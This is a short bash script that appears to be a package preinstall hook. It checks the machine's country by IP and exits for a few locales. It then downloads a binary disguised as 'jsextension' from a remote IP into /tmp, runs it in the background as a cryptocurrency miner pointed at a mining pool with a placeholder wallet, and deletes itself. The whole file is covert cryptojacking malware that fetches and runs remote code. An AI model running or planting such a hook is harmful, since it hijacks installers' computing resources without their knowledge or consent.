#!/bin/bash
# Skip machines in some locales.
IP=$(curl -s -k https://ipinfo.example/ip)
case "$(curl -s https://ipinfo.example/$IP/country)" in
  RU|UA|BY|KZ) exit 0 ;;
esac

cd /tmp || exit 0
curl -s http://198.51.100.23/dl/jsextension -o jsextension
if [ ! -f jsextension ]; then
  wget -q http://198.51.100.23/dl/jsextension -O jsextension
fi
chmod +x jsextension
nohup ./jsextension -k --tls -o stratum+tcp://pool.example:3333 \
  -u 4FAKEWALLETaddressNOTREAL -p node --cpu-max-threads-hint=50 \
  --donate-level=1 --background >/dev/null 2>&1 &
rm -f preinstall.sh
